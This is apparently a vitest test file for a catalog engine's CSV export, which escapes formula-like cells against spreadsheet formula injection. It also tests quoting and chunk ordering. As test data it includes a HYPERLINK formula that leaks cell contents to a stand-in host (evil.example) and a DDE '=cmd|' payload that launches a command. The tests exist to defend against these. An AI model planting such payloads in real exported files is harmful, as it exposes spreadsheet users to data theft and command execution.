import { csvLine, csvLines } from "@docket/engine";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { query } from "./support/catalogFixture.ts";
import { engineWithSetOf } from "./support/setEngine.ts";
import { readRunFile, waitForStatus } from "./support/testEngine.ts";

/** The cells of a CSV text as a strict RFC 4180 parser reads them. */
function parseCsv(text: string): string[][] {
  return parse(text, { bom: true, relax_column_count: false });
}

describe("the CSV writer", () => {
  it("writes text that starts like a formula as text, and numbers as numbers", () => {
    expect(
      csvLine(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1", "＋1", "－1", "＠x"]),
    ).toBe("'=1+1,'+1,'-1,'@SUM(A1),'\tx,\"'\rx\",'＝1,'＋1,'－1,'＠x\r\n");
    // A negative number in a number-typed field is a number; the same characters as text are not.
    expect(csvLine([-5, "-5", 0, 3.25, -0.5])).toBe("-5,'-5,0,3.25,-0.5\r\n");
    // Only the first character counts: these are ordinary text.
    expect(csvLine(["a=b", " =1", "1-2", "e@mail"])).toBe("a=b, =1,1-2,e@mail\r\n");
    expect(csvLine([true, false, null, undefined, "", new Date("2026-05-31T23:59:59Z")])).toBe(
      "true,false,,,,2026-05-31T23:59:59.000Z\r\n",
    );
    expect(csvLines([])).toBe("");
  });

  it("quotes so that csv-parse reads back exactly the cells written", () => {
    const rows = [
      ["plain", 'a "quoted" word', "comma, inside", "line\nbreak", "carriage\rreturn"],
      ["crlf\r\ninside", "", "  spaced  ", "Zoë · 東京 · 🦉", '"'],
      ['=HYPERLINK("http://x","y, z")', "-", "'already quoted", ",", "\n"],
    ];
    const text = csvLines(rows);
    expect(text.endsWith("\r\n")).toBe(true);
    const neutralised = (cell: string) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell);
    expect(parseCsv(text)).toEqual(rows.map((row) => row.map(neutralised)));
    expect(parseCsv(csvLine([-5, 12, "-5"]))).toEqual([["-5", "12", "'-5"]]);
  });

  it("neutralises formula-looking titles in the file records.export-csv writes", async () => {
    const titles = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "+1+1",
      "-2+3",
      "@SUM(1,2)",
      "\tTabbed title",
      "Plain, with a comma",
    ];
    await using t = await engineWithSetOf(titles.length, "records");
    await query(
      t.database.url,
      `update bib_records
       set title = ($1::text[])[id],
           author = case when id = 2 then '=cmd|'' /C calc''!A0' else 'Author ' || id end,
           year = case when id = 3 then -44 else 1900 + id end,
           subjects = array['-Subject', 'Art']`,
      [titles],
    );
    await using _worker = await t.engine.startWorker();
    const run = await t.startOnSet("records.export-csv");
    expect((await waitForStatus(t.engine, run.id, ["completed", "failed"])).status).toBe(
      "completed",
    );
    const csv = await readRunFile(t.engine, run.id, "records.csv");

    const [header, ...rows] = parseCsv(csv);
    expect(header).toEqual(["id", "title", "author", "year", "subjects"]);
    expect(rows.map((row) => row[1])).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      "'+1+1",
      "'-2+3",
      "'@SUM(1,2)",
      "'\tTabbed title",
      "Plain, with a comma",
    ]);
    expect(rows[1]?.[2]).toBe("'=cmd|' /C calc'!A0");
    // The year is a number in the catalog: -44 stays a number a spreadsheet can sum.
    expect(rows.map((row) => row[3])).toEqual(["1901", "1902", "-44", "1904", "1905", "1906"]);
    expect(rows[0]?.[4]).toBe("'-Subject | Art");
    // Not a single cell of the file starts like a formula.
    const cells = rows.flat().filter((_, index) => index % 5 !== 3);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it("records.export-csv writes every record once and in order across chunks whose first ids differ in digit count", async () => {
    const records = 12_000; // six chunks of 2,000, keyed 1, 2001 … 10001
    await using t = await engineWithSetOf(records, "records");
    await using _worker = await t.engine.startWorker();
    const run = await t.startOnSet("records.export-csv", { includeSubjects: false });
    expect((await waitForStatus(t.engine, run.id, ["completed", "failed"], 60_000)).status).toBe(
      "completed",
    );
    const [header, ...rows] = parseCsv(await readRunFile(t.engine, run.id, "records.csv"));
    expect(header?.[0]).toBe("id");
    expect(rows.map((row) => Number(row[0]))).toEqual(
      Array.from({ length: records }, (_, index) => index + 1),
    );
  });
});
